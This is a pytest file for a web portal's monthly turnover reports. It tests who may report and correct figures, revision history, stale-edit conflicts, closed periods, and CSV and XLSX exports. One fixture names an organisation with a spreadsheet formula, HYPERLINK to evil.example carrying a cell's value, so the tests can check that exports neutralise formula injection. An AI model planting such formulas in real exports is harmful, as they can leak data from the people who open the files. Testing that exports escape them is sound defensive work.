"""Reporting and correcting one organisation's monthly figures through the pages: a director
reports and confirms, corrections keep the earlier values and their author, conflicting edits,
closed periods, other organisations' reports, translated errors and safe exports."""
import csv
import io

import sqlalchemy as sa
from openpyxl import load_workbook

from portal.extensions import db
from portal.turnover.models import TurnoverReport, TurnoverRevision, TurnoverSource
from tests import factories
from tests.turnover.helpers import (
    AUG,
    close_period,
    count,
    make_report,
    open_period,
    report_count,
    unions,
)


def _figures(total, bank, deposits=0, average_balance=0, loans=0, accounts=1, **more):
    return {"total_turnover": total, "bank_turnover": bank, "deposits": deposits,
            "average_balance": average_balance, "loans": loans, "accounts": accounts, **more}


def _report():
    return db.session.scalar(sa.select(TurnoverReport))


def test_a_union_director_reports_the_figures_of_their_own_union(client, login_as, db):
    made, coop = unions()
    period = open_period("IR", AUG)
    director = login_as("union_director", made[0])
    form = client.get("/turnover/reports/new")
    assert form.status_code == 200
    # the director may report for their union and the cooperatives under it, no one else
    assert made[0].code in form.text and coop.code in form.text
    assert made[1].code not in form.text
    response = client.post("/turnover/reports/new", data={
        "organisation_id": made[0].id, "period_id": period.id,
        **_figures(9_000_000, 3_000_000, deposits=500_000, accounts=213)})
    assert response.status_code == 302
    report = _report()
    assert response.headers["Location"].endswith(f"/turnover/reports/{report.id}")
    assert (report.organisation_id, report.period_id, report.currency) == (
        made[0].id, period.id, "IRR")
    assert (report.total_turnover, report.bank_turnover, report.deposits, report.accounts) == (
        9_000_000, 3_000_000, 500_000, 213)
    assert report.source == TurnoverSource.REPORTED and report.reported_by_id == director.id
    page = client.get(f"/turnover/reports/{report.id}").text
    assert "9,000,000" in page and "33.33%" in page and "Reported" in page
    assert "These figures have not been corrected." in page


def test_a_director_cannot_report_for_another_union(client, login_as, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    login_as("union_director", made[0])
    response = client.post("/turnover/reports/new", data={
        "organisation_id": made[1].id, "period_id": period.id, **_figures(100, 50)})
    assert response.status_code == 400
    assert report_count() == 0


def test_a_correction_keeps_the_earlier_values_and_who_changed_them(client, login_as, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    report = make_report(made[0], period, 9_000_000, 3_000_000)
    director = login_as("union_director", made[0], full_name="Maryam Rahimi")
    # the amount is shown back grouped, as the reader writes it; the form reads it back
    form = client.get(f"/turnover/reports/{report.id}/edit")
    assert form.status_code == 200 and 'value="9,000,000"' in form.text
    response = client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": report.version_id, **_figures(9_000_000, 4_500_000)})
    assert response.status_code == 302
    db.session.expire_all()
    report = db.session.get(TurnoverReport, report.id)
    assert report.bank_turnover == 4_500_000 and report.version_id == 2
    assert report.reported_by_id == director.id
    (revision,) = report.revisions
    assert (revision.total_turnover, revision.bank_turnover) == (9_000_000, 3_000_000)
    assert revision.changed_by_id == director.id
    assert revision.source == TurnoverSource.REPORTED
    page = client.get(f"/turnover/reports/{report.id}").text
    earlier = page[page.index('id="revisions"'):]
    assert "Maryam Rahimi" in earlier and "3,000,000" in earlier
    assert "4,500,000" in page and "50.00%" in page
    # saving the same figures again is not a correction
    client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": 2, **_figures(9_000_000, 4_500_000)})
    assert count(TurnoverRevision) == 1


def test_a_stale_edit_is_refused_with_409_and_the_other_change_survives(client, login, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    report = make_report(made[0], period, 9_000_000, 3_000_000)
    director = factories.make_user("union_director", made[0])
    manager = factories.make_user("relationship_manager")
    manager.portfolio.append(made[0])
    db.session.commit()
    loaded = report.version_id  # both opened the form at this version
    login(manager)
    assert client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": loaded, **_figures(9_000_000, 6_000_000)}).status_code == 302
    login(director)
    stale = client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": loaded, **_figures(9_100_000, 3_100_000)})
    assert stale.status_code == 409
    assert "Someone else changed these figures" in stale.text
    # what the director typed is still in the form, to apply again
    assert 'value="9100000"' in stale.text and 'value="3100000"' in stale.text
    db.session.expire_all()
    report = db.session.get(TurnoverReport, report.id)
    assert (report.total_turnover, report.bank_turnover) == (9_000_000, 6_000_000)
    assert report.reported_by_id == manager.id and report.version_id == 2
    assert count(TurnoverRevision) == 1
    # the refusal carries the current version: saving again from it succeeds
    assert 'name="version_id" type="hidden" value="2"' in stale.text
    again = client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": 2, **_figures(9_100_000, 3_100_000)})
    assert again.status_code == 302
    db.session.expire_all()
    assert db.session.get(TurnoverReport, report.id).bank_turnover == 3_100_000


def test_a_closed_period_refuses_corrections_and_confirmations(client, login_as, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    report = make_report(made[0], period, 9_000_000, 3_000_000)
    close_period("IR", AUG)
    login_as("union_director", made[0])
    page = client.get(f"/turnover/reports/{report.id}").text
    assert "Closed period" in page
    assert "Correct the figures" not in page and "Confirm these figures" not in page
    response = client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": report.version_id, **_figures(9_000_000, 100)})
    assert response.status_code == 400
    assert "The period 2025-08 is closed" in response.text
    confirmed = client.post(f"/turnover/reports/{report.id}/confirm")
    assert confirmed.status_code == 400
    db.session.expire_all()
    report = db.session.get(TurnoverReport, report.id)
    assert report.bank_turnover == 3_000_000 and report.version_id == 1
    assert report.source == TurnoverSource.REPORTED and report.confirmed_by_id is None
    assert count(TurnoverRevision) == 0
    # and a new report cannot name the closed period
    fresh = client.post("/turnover/reports/new", data={
        "organisation_id": made[0].id, "period_id": period.id, **_figures(100, 50)})
    assert fresh.status_code == 400 and report_count() == 1


def test_a_director_confirms_the_figures(client, login_as, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    report = make_report(made[0], period, 9_000_000, 3_000_000)
    director = login_as("union_director", made[0], full_name="Reza Karimi")
    assert "Confirm these figures" in client.get(f"/turnover/reports/{report.id}").text
    response = client.post(f"/turnover/reports/{report.id}/confirm")
    assert response.status_code == 302
    db.session.expire_all()
    report = db.session.get(TurnoverReport, report.id)
    assert report.source == TurnoverSource.CONFIRMED
    assert report.confirmed_by_id == director.id and report.confirmed_at is not None
    assert (report.total_turnover, report.bank_turnover) == (9_000_000, 3_000_000)
    (revision,) = report.revisions
    assert revision.new_source == TurnoverSource.CONFIRMED
    assert revision.source == TurnoverSource.REPORTED
    page = client.get(f"/turnover/reports/{report.id}").text
    assert "Confirmed by the director" in page and "Confirm these figures" not in page
    # confirming twice is refused
    assert client.post(f"/turnover/reports/{report.id}/confirm").status_code == 403
    # a later correction drops the confirmation
    client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": report.version_id, **_figures(9_000_000, 3_500_000)})
    db.session.expire_all()
    report = db.session.get(TurnoverReport, report.id)
    assert report.source == TurnoverSource.REPORTED and report.confirmed_by_id is None


def test_a_director_neither_sees_nor_changes_another_unions_report(client, login_as, db):
    made, coop = unions()
    period = open_period("IR", AUG)
    theirs = make_report(made[1], period, 5_000_000, 4_000_000)
    mine = make_report(coop, period, 2_000_000, 1_000_000)
    login_as("union_director", made[0])
    assert client.get(f"/turnover/reports/{theirs.id}").status_code == 404
    assert client.get(f"/turnover/reports/{theirs.id}/edit").status_code == 404
    assert client.post(f"/turnover/reports/{theirs.id}/edit", data={
        "version_id": theirs.version_id, **_figures(5_000_000, 1)}).status_code == 404
    assert client.post(f"/turnover/reports/{theirs.id}/confirm").status_code == 404
    db.session.expire_all()
    theirs = db.session.get(TurnoverReport, theirs.id)
    assert theirs.bank_turnover == 4_000_000 and theirs.source == TurnoverSource.REPORTED
    assert count(TurnoverRevision) == 0
    # the month's table lists the cooperative under the director's union, not the other union
    table = client.get(f"/turnover/periods/{period.id}").text
    assert coop.name in table and made[1].name not in table
    assert client.get(f"/turnover/reports/{mine.id}").status_code == 200


def test_bank_turnover_above_the_total_is_refused_in_the_users_language(client, login_as, db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    login_as("union_director", made[0], preferred_locale="vi")
    response = client.post("/turnover/reports/new", data={
        "organisation_id": made[0].id, "period_id": period.id,
        **_figures(1_000_000, 5_000_000, deposits=123_456, accounts=17)})
    assert response.status_code == 400
    assert ("Doanh số giao dịch qua Ngân hàng không được vượt quá tổng doanh số giao dịch."
            in response.text)
    assert "cannot exceed the total turnover" not in response.text
    # the message stands next to the field, and what was typed is kept
    assert 'id="bank_turnover-error"' in response.text
    for typed in ("1000000", "5000000", "123456", "17"):
        assert f'value="{typed}"' in response.text
    assert report_count() == 0


def test_a_correction_above_the_total_is_refused_and_keeps_what_was_typed(client, login_as,
                                                                            db):
    made, _coop = unions()
    period = open_period("IR", AUG)
    report = make_report(made[0], period, 9_000_000, 3_000_000)
    login_as("union_director", made[0])
    response = client.post(f"/turnover/reports/{report.id}/edit", data={
        "version_id": report.version_id, **_figures(9_000_000, 9_000_001)})
    assert response.status_code == 400
    assert "Turnover through the bank cannot exceed the total turnover." in response.text
    assert 'value="9000001"' in response.text
    db.session.expire_all()
    assert db.session.get(TurnoverReport, report.id).bank_turnover == 3_000_000
    assert count(TurnoverRevision) == 0


def _export_world():
    made, coop = unions()
    made[0].name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    coop.name = "@SUM(1+1)"
    db.session.commit()
    period = open_period("IR", AUG)
    make_report(made[0], period, 9_000_000, 3_000_000, accounts=213)
    make_report(coop, period, 2_000_000, 1_500_000)
    make_report(made[1], period, 5_000_000, 4_000_000)
    return made, coop, period


def test_the_reports_table_exports_as_csv_with_formulas_neutralised(client, login_as, db):
    made, coop, period = _export_world()
    login_as("administrator")
    response = client.get(f"/turnover/export/reports.csv?period={period.id}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert header[:4] == ["Code", "Organisation", "Period", "Currency"]
    by_code = {row[0]: row for row in rows}
    assert set(by_code) == {made[0].code, made[1].code, coop.code}
    first = by_code[made[0].code]
    assert first[1] == "'" + made[0].name
    assert first[2:] == ["2025-08", "IRR", "9000000", "3000000", "0", "0", "0", "213",
                         "reported"]
    assert by_code[coop.code][1] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)


def test_the_reports_table_exports_as_xlsx_with_formulas_neutralised(client, login_as, db):
    made, coop, period = _export_world()
    login_as("administrator")
    response = client.get(f"/turnover/export/reports.xlsx?period={period.id}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)  # no formula cell at all
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {made[0].code, made[1].code, coop.code}
    assert by_code[made[0].code][1] == "'" + made[0].name
    assert by_code[made[0].code][4:6] == [9_000_000, 3_000_000]
    assert by_code[coop.code][1] == "'@SUM(1+1)"
    book.close()


def test_a_directors_export_holds_only_their_own_reports(client, login_as, db):
    made, coop, period = _export_world()
    login_as("union_director", made[0])
    response = client.get(f"/turnover/export/reports.csv?period={period.id}")
    assert response.status_code == 200
    codes = {row[0] for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")))}
    assert codes == {"Code", made[0].code, coop.code}


def test_amounts_and_their_sums_are_exact_decimals_on_every_database(db):
    """A report's figures and the dashboard's sums are the same type (Decimal) whether the
    database sums BIGINT as NUMERIC (PostgreSQL) or as an integer (SQLite), and stay exact
    beyond what a float holds."""
    from decimal import Decimal

    from portal.turnover import services

    made, coop = unions()
    period = open_period("IR", AUG)
    big = 9_000_000_000_000_001  # a float would make this 9e15
    make_report(made[0], period, big, big - 1)
    make_report(coop, period, 2, 1)
    admin = factories.make_user("administrator")
    report = db.session.scalar(sa.select(TurnoverReport).where(
        TurnoverReport.organisation_id == made[0].id))
    assert isinstance(report.total_turnover, Decimal) and report.total_turnover == big
    (network,) = services.shares(admin, [period.id], "network")
    assert (network.total, network.bank) == (Decimal(big + 2), Decimal(big))
    assert isinstance(network.total, Decimal) and isinstance(network.bank, Decimal)
    (kept,) = services.network_shares(admin, [period.id])
    assert isinstance(kept.total, Decimal) and kept.total == big + 2
